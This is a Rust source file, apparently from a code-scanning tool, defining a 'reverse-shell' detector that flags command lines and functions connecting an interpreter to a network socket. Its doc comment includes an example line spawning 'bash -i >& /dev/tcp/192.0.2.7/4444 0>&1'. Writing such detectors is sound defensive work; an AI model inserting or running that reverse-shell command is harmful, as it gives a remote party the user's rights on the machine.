//! A shell for somebody else.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::subject::{Findings, Subject};

detector! {
    /// A shell is connected with the network.
    ///
    /// ## What it does
    /// Looks for command lines that give a remote machine a shell, in any order of their words, and for
    /// functions that connect and start an interpreter: to an address of digits, or with the connection
    /// as the interpreter's input (`dup2`, `Stdio::from_raw_fd`). In tests too.
    ///
    /// ## Why is this bad?
    /// Whoever is at the other end has the rights of the user.
    ///
    /// ## Example
    /// ```rust
    /// Command::new("bash").args(["-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]).spawn()?;
    /// ```
    ///
    /// ## How to fix it
    /// Remove it. A tool for remote administration offers a protocol that authenticates.
    ReverseShell "reverse-shell" Malice Critical High Stable
}

impl ReverseShell {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let is_shell = |scope: &Scope<'_>| {
            let text =
                scope.has(Fact::ReverseShell) && scope.any(&[Fact::Process, Fact::DynamicScript]);
            let connects = scope.of(Fact::Network).any(|evidence| {
                evidence.detail.contains("TcpStream")
                    || evidence.detail.contains("UnixStream")
                    || evidence.detail.contains("socket")
                    || evidence.detail.contains("connect")
            });
            let interpreter = scope.any(&[Fact::Shell, Fact::ShellName]);
            let code = scope.has(Fact::RawAddress) && scope.has(Fact::Shell);
            let handed = scope.has(Fact::Redirection) && interpreter;
            text || connects && (code || handed)
        };
        let mut scopes = subject.facts().scopes(2, is_shell);
        scopes.extend(subject.facts().test_scopes(2, is_shell));
        for scope in scopes {
            let places = scope.places(
                subject,
                &[
                    Fact::ReverseShell,
                    Fact::Network,
                    Fact::RawAddress,
                    Fact::Redirection,
                    Fact::Shell,
                    Fact::ShellName,
                    Fact::Process,
                ],
            );
            let message = format!("{} connects a shell with the network", scope.unit.as_str());
            findings
                .add(&Self::RULE, message, places)
                .reached_as(&scope);
        }
    }
}
